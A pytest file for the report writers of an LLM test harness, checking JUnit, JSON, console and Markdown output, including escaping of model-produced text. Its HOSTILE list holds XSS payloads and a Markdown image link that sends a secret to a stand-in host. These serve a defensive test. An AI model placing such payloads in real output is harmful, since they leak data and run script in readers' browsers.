"""Reports of every kind say what happened, to readers that know nothing of ours, whatever the texts
in them try."""

import json
import re
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.dom import minidom

import pytest

from harness.executed import (
    FAILING,
    MESSAGE,
    NOON,
    UNKNOWN,
    make_case,
    make_execution,
    make_reply,
)
from tanzaku.core import UserError
from tanzaku.look import Messages, Terminal
from tanzaku.wire import encode_event, split_message
from tanzaku.workbench.assertions import Outcome
from tanzaku.workbench.reports import ConsoleReport, ReportKind, gather, write_reports
from tanzaku.workbench.runner import CaseEnded, Event, ReplyCame

STREAM = b"".join(map(encode_event, split_message(MESSAGE)))
STREAMED = make_reply(
    STREAM,
    content_type="text/event-stream",
    frame_times_ms=[120.5 + n for n in range(STREAM.count(b"\n\n"))],
)
BROKEN_OFF = replace(make_reply(), problem="nobody listens", trouble="connect")
BROKEN_OFF.exchange.settlement = None
WARNING = Outcome("length", "fail", {"lte": 3}, 9, "", "too long", {}, "warn")
REFUSAL = json.dumps(
    {"type": "error", "error": {"type": "invalid_request_error", "message": "max_tokens: too low"}}
).encode()
CASES = [
    make_case("weather#happy", replies=[make_reply(), STREAMED]),
    make_case("weather#bad[2]", "failed", [FAILING, UNKNOWN, WARNING], name="异常：不该查"),
    make_case("weather#lost", "error", [], replies=[BROKEN_OFF], reason="nobody listens"),
    make_case("orders#known", "failed", [FAILING], is_accepted=True),
    make_case("orders#off", "skipped", [], reason="nobody serves it", attempts=0),
    make_case("orders#late", "not_run", [], reason="bail", attempts=0),
    make_case("orders#again", attempts=2, outcomes=[WARNING]),
]
EVENTS = make_execution(*CASES)


def write(folder: Path, kind: ReportKind, events: Sequence[Event] = EVENTS, **more: Any) -> str:
    path = folder / "new" / f"report.{kind}"
    write_reports(events, {kind: path}, **more)
    return path.read_text(encoding="utf-8")


def test_a_report_has_the_order_of_the_files_and_what_came_last() -> None:
    start, *_, end = EVENTS
    again = make_case("weather#lost")
    report = gather([start, *CASES[3], *CASES[2], *CASES[0], *again, end])
    verdicts = [(case.started.case, case.ended.verdict) for case in report.cases]
    assert verdicts == [
        ("weather#happy", "passed"),
        ("weather#lost", "passed"),
        ("orders#known", "failed"),
    ]
    assert len(report.cases[1].replies) == 1


def test_an_execution_that_was_killed_has_a_report_all_the_same() -> None:
    report = gather([EVENTS[0], *CASES[0], *CASES[1][:-1]])
    assert report.ended.stopped == "interrupted"
    assert report.ended.exit_code == 130
    assert report.ended.counts["passed"] == 1
    assert report.ended.counts["not_run"] == 6
    assert report.cases[1].ended.verdict == "not_run"
    assert len(report.cases[1].replies) == 1


def test_no_execution_no_report() -> None:
    with pytest.raises(UserError, match="no execution"):
        gather([])


def test_a_report_that_cannot_be_written_is_told(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="cannot be written"):
        write_reports(EVENTS, {"json": tmp_path})


# JUnit


def test_junit_counts_as_a_reader_counts(tmp_path: Path) -> None:
    document = minidom.parseString(write(tmp_path, "junit"))
    suites = document.getElementsByTagName("testsuite")
    assert [one.getAttribute("name") for one in suites] == ["weather", "orders"]
    for one in [*suites, document.documentElement]:
        cases = one.getElementsByTagName("testcase")
        held = {
            name: sum(bool(case.getElementsByTagName(name)) for case in cases)
            for name in ("failure", "error", "skipped")
        }
        assert one.getAttribute("tests") == str(len(cases))
        assert one.getAttribute("failures") == str(held["failure"])
        assert one.getAttribute("errors") == str(held["error"])
        assert one.getAttribute("skipped") == str(held["skipped"])
    assert document.documentElement.getAttribute("tests") == "7"


def test_junit_has_a_failure_for_each_assertion_that_fails(tmp_path: Path) -> None:
    cases = read_junit(write(tmp_path, "junit"))
    bad = cases["bad[2] 异常：不该查"]
    assert [one.getAttribute("type") for one in bad.getElementsByTagName("failure")] == [
        "stop_reason"
    ]
    told = read_text(bad)
    assert '"end_turn"' in told
    assert "$.stop_reason" in told
    assert "suites/weather.suite.yaml:12:9" in told
    assert "cost_usd" in told
    assert "warning: length" in told
    assert "tanzaku test suites/weather.suite.yaml --case 'weather#bad[2]'" in told
    assert not bad.getElementsByTagName("error")


def test_junit_tells_what_broke_and_what_was_not_executed(tmp_path: Path) -> None:
    cases = read_junit(write(tmp_path, "junit"))
    (error,) = cases["lost 名 weather#lost"].getElementsByTagName("error")
    assert error.getAttribute("message") == "nobody listens"
    skipped = {
        name: case.getElementsByTagName("skipped")[0].getAttribute("message")
        for name, case in cases.items()
        if case.getElementsByTagName("skipped")
    }
    assert skipped == {
        "known 名 orders#known": "known from the baseline",
        "off 名 orders#off": "nobody serves it",
        "late 名 orders#late": "bail",
    }


def test_junit_has_tokens_dollars_model_and_seed(tmp_path: Path) -> None:
    document = minidom.parseString(write(tmp_path, "junit"))
    properties = {
        one.getAttribute("name"): one.getAttribute("value")
        for one in document.getElementsByTagName("testsuite")[0].getElementsByTagName("property")
    }
    assert properties["seed"] == "7"
    assert properties["model"] == "claude-haiku-4-5-20251001"
    first = read_junit(write(tmp_path, "junit"))["happy 名 weather#happy"]
    values = {
        one.getAttribute("name"): one.getAttribute("value")
        for one in first.getElementsByTagName("property")
    }
    assert (values["usd"], values["input_tokens"]) == ("0.00105", "1000")


ILLEGAL = "".join(map(chr, [*range(9), 11, 12, *range(14, 32), 0xD800, 0xDFFF, 0xFFFE, 0xFFFF]))


@pytest.mark.parametrize("text", [ILLEGAL, "]]>", "<!-- & -->", "&#0;", "\r\n"])
def test_junit_is_xml_whatever_a_model_says(tmp_path: Path, text: str) -> None:
    said = Outcome(text, "fail", text, text, text, "{x}", {"x": text})
    case = make_case("a#b", "failed", [said], name=text, reason=text)
    (read,) = read_junit(write(tmp_path, "junit", make_execution(case))).values()
    told = read_text(read)
    if text.isprintable():
        assert text in told
    assert "\ufffd" in told or text != ILLEGAL


def read_junit(text: str) -> dict[str, minidom.Element]:
    cases = minidom.parseString(text.encode()).getElementsByTagName("testcase")
    return {one.getAttribute("name"): one for one in cases}


def read_text(node: Any) -> str:
    return getattr(node, "data", "") + "".join(map(read_text, node.childNodes))


# JSON


def test_json_is_as_its_schema_says(tmp_path: Path) -> None:
    import jsonschema_rs

    path = Path(__file__).parents[4] / "docs/schemas/report.schema.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    document = json.loads(write(tmp_path, "json"))
    jsonschema_rs.validator_for(schema).validate(document)
    for strange in (document | {"more": 1}, document | {"seed": "7"}):
        with pytest.raises(jsonschema_rs.ValidationError):
            jsonschema_rs.validator_for(schema).validate(strange)


def test_json_tells_all_of_a_case(tmp_path: Path) -> None:
    document = json.loads(write(tmp_path, "json"))
    assert document["counts"] == {"passed": 2, "failed": 2, "error": 1, "skipped": 1, "not_run": 1}
    assert document["spent"]["usd"] == "0.00525"
    happy, bad, lost, *_ = document["cases"]
    assert happy["exchanges"][0]["response"]["body"] == MESSAGE
    assert [one[1] for one in happy["exchanges"][1]["events"]][-1] == "message_stop"
    assert bad["outcomes"][0]["actual"] == "tool_use"
    assert bad["outcomes"][0]["message"] == "tool_use is not end_turn"
    assert bad["outcomes"][0]["place"] == "suites/weather.suite.yaml:12:9"
    assert (lost["exchanges"][0]["trouble"], lost["exchanges"][0]["response"]) == ("connect", None)
    assert [case["is_flaky"] for case in document["cases"]] == [False] * 6 + [True]


@pytest.mark.parametrize(
    "actual", [float("inf"), "\ud800", 1 << 20_000], ids=["inf", "half", "huge"]
)
def test_json_is_json_whatever_was_found(tmp_path: Path, actual: object) -> None:
    case = make_case("a#b", "failed", [Outcome("x", "fail", None, actual)])
    json.loads(write(tmp_path, "json", make_execution(case)))


# Console


def read_console(capsys: pytest.CaptureFixture[str], events: Sequence[Event], language: Any) -> str:
    report = ConsoleReport(Terminal(), Messages(language))
    for event in events:
        report(event)
    return capsys.readouterr().out


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_the_console_has_a_line_a_case_then_failures_then_sums(
    capsys: pytest.CaptureFixture[str], language: Any
) -> None:
    said = read_console(capsys, EVENTS, language)
    lines = [line for line in said.splitlines() if line]
    keys = [case[-1].case for case in CASES if isinstance(case[-1], CaseEnded)]
    assert [key for key, line in zip(keys, lines[1:], strict=False) if key in line] == keys
    failures = said.partition("weather#bad[2]")[2].partition("weather#bad[2]")[2]
    for word in ('"end_turn"', '"tool_use"', "$.stop_reason", "suites/weather.suite.yaml:12:9"):
        assert word in failures
    assert "--case 'weather#bad[2]'" in failures
    assert "我来查一下" in failures
    assert "nobody listens" in failures
    assert "orders#known" not in failures
    assert "5,000" in lines[-1]
    assert "$0.00525" in lines[-1]


def test_the_console_speaks_both_languages_in_words(capsys: pytest.CaptureFixture[str]) -> None:
    english = read_console(capsys, EVENTS, "en")
    chinese = read_console(capsys, EVENTS, "zh-CN")
    assert "2 passed, 2 failed, 1 broken, 1 skipped, 1 not run" in english
    assert "通过 2, 失败 2, 出错 1, 跳过 1, 未执行 1" in chinese
    assert not re.search("[\u4e00-\u9fff]", english.replace("名", "").partition("异常")[0])
    chinese.encode("gbk")
    english.encode("gbk")


def test_a_failure_to_evaluate_is_told_as_such(capsys: pytest.CaptureFixture[str]) -> None:
    said = read_console(capsys, EVENTS, "en")
    assert "cannot be evaluated  cost_usd" in said
    assert "warning  length" in said


def test_an_end_before_its_time_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    end = replace(EVENTS[-1], stopped="budget", fixed=["a#b"])
    said = read_console(capsys, [*EVENTS[:-1], end], "en")
    assert "Stopped early: the budget" in said
    assert "a#b" in said


# Markdown


HOSTILE = [
    "<img src=https://leak.test/x onerror=alert(1)>",
    "![x](https://leak.test/?d=SECRET)",
    "[a](javascript:alert(1))",
    "| cell | other |\n|---|---|",
    "\n\n# heading\n\n```\ncode",
    "`code` **bold** _it_ ~~no~~ $x$ @someone #1 www.leak.test",
    "<!-- hidden",
    "</code></td></table><script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_markdown_holds_no_mark_that_came_from_outside(tmp_path: Path, text: str) -> None:
    calm, wild = (
        write(tmp_path, "markdown", make_execution(make_hostile_case(word))) for word in ("x", text)
    )
    marks = re.compile(r"[!-/:-@\[-`{-~]")
    without_numbers = re.compile(r"&#\d+;")
    assert marks.findall(without_numbers.sub("", wild)) == marks.findall(
        without_numbers.sub("", calm)
    )
    assert wild.count("\n") == calm.count("\n")
    unescaped = re.sub(r"&#(\d+);", lambda found: chr(int(found[1])), wild)
    assert " ".join(text.split()) in unescaped


def make_hostile_case(text: str) -> list[Event]:
    outcome = Outcome("contains", "fail", text, text, "text", "{x}", {"x": text})
    reply = make_reply(
        json.dumps({**MESSAGE, "content": [{"type": "text", "text": text}]}).encode()
    )
    return make_case("a#b", "failed", [outcome], replies=[reply], name=text, reason=text)


@pytest.mark.parametrize(
    ("language", "words"),
    [("en", ["Not passed", "Tokens in"]), ("zh-CN", ["未通过", "输入 Token"])],
)
def test_markdown_is_said_in_the_language_of_the_run(
    tmp_path: Path, language: Any, words: list[str]
) -> None:
    said = write(tmp_path, "markdown", language=language)
    assert all(word in said for word in words)
    assert "异常" in said


def test_markdown_fits_on_the_page_of_a_ci(tmp_path: Path) -> None:
    long = "<" * 100_000
    cases = [
        [replace(event, case=f"a#{n}") for event in make_hostile_case(long)] for n in range(200)
    ]
    assert len(write(tmp_path, "markdown", make_execution(*cases)).encode()) < 1 << 20


def test_one_pass_through_the_events_makes_every_report(tmp_path: Path) -> None:
    paths: dict[ReportKind, Path] = {"junit": tmp_path / "j", "json": tmp_path / "o"}
    report = write_reports(iter(EVENTS), paths)
    assert len(report.cases) == len(CASES)
    assert all(path.stat().st_size for path in paths.values())


def test_a_turn_of_a_case_is_told(tmp_path: Path) -> None:
    start, _, end = make_case("a#b")
    came = ReplyCame(NOON, "a#b", "work[2].agent", make_reply(REFUSAL, status=400, usage=None), 3)
    document = json.loads(write(tmp_path, "json", make_execution([start, came, end])))
    (exchange,) = document["cases"][0]["exchanges"]
    assert (exchange["step"], exchange["turn"]) == ("work[2].agent", 3)
    assert exchange["error"]["type"] == "invalid_request_error"
